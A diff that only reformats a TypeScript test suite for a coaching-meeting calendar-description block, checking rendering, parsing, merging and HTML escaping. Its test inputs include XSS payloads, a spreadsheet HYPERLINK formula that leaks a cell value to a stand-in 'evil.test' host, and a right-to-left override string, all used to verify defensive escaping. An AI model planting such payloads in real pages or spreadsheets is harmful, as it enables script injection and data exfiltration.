@@ -1,5 +1,13 @@
 import fc from 'fast-check';
-import { BLOCK_END, BLOCK_START, hasBlock, mergeBlock, parseBlock, removeBlock, renderBlock } from '../../src/core/description';
+import {
+  BLOCK_END,
+  BLOCK_START,
+  hasBlock,
+  mergeBlock,
+  parseBlock,
+  removeBlock,
+  renderBlock,
+} from '../../src/core/description';
 import { Meeting, parseMeetingForm } from '../../src/core/meeting';
 
 const meeting: Meeting = {
@@ -47,13 +55,19 @@ describe('renderBlock', () => {
   });
 
   it('escapes all user text: no markup survives', () => {
-    const html = renderBlock({ ...meeting, goal: '<script>alert("x")</script> & <b>bold</b> \'q\'', agenda: ['<img src=x onerror=alert(1)>'] });
+    const html = renderBlock({
+      ...meeting,
+      goal: '<script>alert("x")</script> & <b>bold</b> \'q\'',
+      agenda: ['<img src=x onerror=alert(1)>'],
+    });
     expect(html).not.toMatch(/<script|<b>|<img/);
-    expect(html).toContain('Goal: &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt; &#39;q&#39;');
+    expect(html).toContain(
+      'Goal: &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt; &#39;q&#39;',
+    );
     expect(html).toContain('1. &lt;img src=x onerror=alert(1)&gt;');
   });
 
-  it('says when there is no action plan yet, and shows a chosen link as the coachee\'s', () => {
+  it("says when there is no action plan yet, and shows a chosen link as the coachee's", () => {
     const text = renderBlock({ ...meeting, actionPlan: [], videoLink: 'https://zoom.example.test/j/1?pwd=a&b=c' }, ctx);
     expect(text).toContain('\nAction plan: none yet\n');
     expect(text).toContain('\nVideo link: https://zoom.example.test/j/1?pwd=a&amp;b=c\n');
@@ -87,7 +101,11 @@ describe('parseBlock', () => {
       .replace('2. Support I need from Mo', '2. Support I need from Mo\n- A line I added\nsome stray remark')
       .replace('- Introduce Ana to the sales leads (owner: manager)', '- Book a follow-up');
     const p = parseBlock(edited);
-    expect(p.meeting?.agenda).toEqual(['The goal and how it serves the launch', 'Support I need from Mo', 'A line I added']);
+    expect(p.meeting?.agenda).toEqual([
+      'The goal and how it serves the launch',
+      'Support I need from Mo',
+      'A line I added',
+    ]);
     expect(p.meeting?.actionPlan[1]).toEqual({ step: 'Book a follow-up', owner: 'coachee' });
     expect(p.problems).toEqual([
       'Couldn\'t read the line "some stray remark".',
@@ -96,17 +114,30 @@ describe('parseBlock', () => {
   });
 
   it('returns what it can from a damaged block and never throws', () => {
-    const noEnd = renderBlock(meeting, ctx).replace(`\n${BLOCK_END}`, '').replace(/Coach’s role:.*\n/, '');
+    const noEnd = renderBlock(meeting, ctx)
+      .replace(`\n${BLOCK_END}`, '')
+      .replace(/Coach’s role:.*\n/, '');
     const p = parseBlock(`${noEnd}\nOrganizer text after`);
     expect(p.found).toBe(true);
     expect(p.meeting).toBeUndefined();
     expect(p.partial.goal).toBe(meeting.goal);
     expect(p.partial.agenda).toEqual(meeting.agenda);
-    expect(p.problems).toEqual(expect.arrayContaining([
-      'The end line of the CCM block is missing; read up to the last line that looked like part of it.',
-      "The coach's role is missing.",
-    ]));
-    for (const junk of [undefined, null, '', 'plain text', BLOCK_START, `${BLOCK_START}\n${BLOCK_END}`, '<<<>>>&&&;', '\u0000'.repeat(10)]) {
+    expect(p.problems).toEqual(
+      expect.arrayContaining([
+        'The end line of the CCM block is missing; read up to the last line that looked like part of it.',
+        "The coach's role is missing.",
+      ]),
+    );
+    for (const junk of [
+      undefined,
+      null,
+      '',
+      'plain text',
+      BLOCK_START,
+      `${BLOCK_START}\n${BLOCK_END}`,
+      '<<<>>>&&&;',
+      '\u0000'.repeat(10),
+    ]) {
       expect(() => parseBlock(junk as string)).not.toThrow();
     }
     expect(parseBlock('plain text').found).toBe(false);
@@ -124,7 +155,7 @@ describe('parseBlock', () => {
 describe('mergeBlock and removeBlock', () => {
   const other: Meeting = { ...meeting, goal: 'A different goal', coachRole: 'clarify', actionPlan: [] };
 
-  it('appends after the organizer\'s text, replaces in place, never duplicates', () => {
+  it("appends after the organizer's text, replaces in place, never duplicates", () => {
     const first = mergeBlock('Dial-in notes from Ana', meeting, ctx);
     expect(first).toBe(`Dial-in notes from Ana\n\n${renderBlock(meeting, ctx)}`);
     const withAfter = `${first}\n\nText Ana added after`;
@@ -148,7 +179,7 @@ describe('mergeBlock and removeBlock', () => {
     expect(removeBlock(merged)).toBe(html);
   });
 
-  it('keeps Calendar\'s <html-blob> wrapper and inline tags around the block', () => {
+  it("keeps Calendar's <html-blob> wrapper and inline tags around the block", () => {
     const blob = `<html-blob>Notes<br><br>${renderBlock(meeting, {}, { html: true })}</html-blob>`;
     const merged = mergeBlock(blob, other);
     expect(merged).toBe(`<html-blob>Notes<br><br>${renderBlock(other, {}, { html: true })}</html-blob>`);
@@ -190,9 +221,22 @@ const text = (max: number) =>
     fc.string({ unit: 'grapheme', minLength: 1, maxLength: max }),
     fc.string({ unit: 'binary', minLength: 1, maxLength: max }),
     fc.constantFrom(
-      '=HYPERLINK("https://evil.test?"&A1,"click")', '+SUM(A1)', '@import', '<script>alert(1)</script>', '&amp; &lt;b&gt;',
-      '1. not a number', '- dash first', 'Goal: nested label', '(owner: coach)', 'x (owner: manager, due 2026-01-01)',
-      BLOCK_START, BLOCK_END, 'Ω≈ç√ 日本語 مرحبا עברית 🚀👩🏽‍💻', '  spaced   out  ', 'line\nbreak\r\ninside', '\u202Eevil\u202C',
+      '=HYPERLINK("https://evil.test?"&A1,"click")',
+      '+SUM(A1)',
+      '@import',
+      '<script>alert(1)</script>',
+      '&amp; &lt;b&gt;',
+      '1. not a number',
+      '- dash first',
+      'Goal: nested label',
+      '(owner: coach)',
+      'x (owner: manager, due 2026-01-01)',
+      BLOCK_START,
+      BLOCK_END,
+      'Ω≈ç√ 日本語 مرحبا עברית 🚀👩🏽‍💻',
+      '  spaced   out  ',
+      'line\nbreak\r\ninside',
+      '\u202Eevil\u202C',
     ),
   );
 
@@ -201,11 +245,18 @@ const meetingArb = fc
     goal: text(300),
     agenda: fc.array(text(200), { minLength: 1, maxLength: 10 }),
     actionPlan: fc.array(
-      fc.record({ step: text(200), owner: fc.constantFrom('coachee', 'manager', 'coach'), due: fc.option(fc.constantFrom('2026-03-17', '2028-02-29', '2026-12-31'), { nil: undefined }) }),
+      fc.record({
+        step: text(200),
+        owner: fc.constantFrom('coachee', 'manager', 'coach'),
+        due: fc.option(fc.constantFrom('2026-03-17', '2028-02-29', '2026-12-31'), { nil: undefined }),
+      }),
       { maxLength: 10 },
     ),
     coachRole: fc.constantFrom('observe', 'facilitate', 'clarify'),
-    videoLink: fc.option(fc.constantFrom('https://meet.google.com/abc-defg-hij', 'https://acme.zoom.us/j/1?pwd=a&b=%20'), { nil: undefined }),
+    videoLink: fc.option(
+      fc.constantFrom('https://meet.google.com/abc-defg-hij', 'https://acme.zoom.us/j/1?pwd=a&b=%20'),
+      { nil: undefined },
+    ),
   })
   .map((m) => parseMeetingForm(m))
   .filter((r): r is { ok: true; meeting: Meeting } => r.ok)
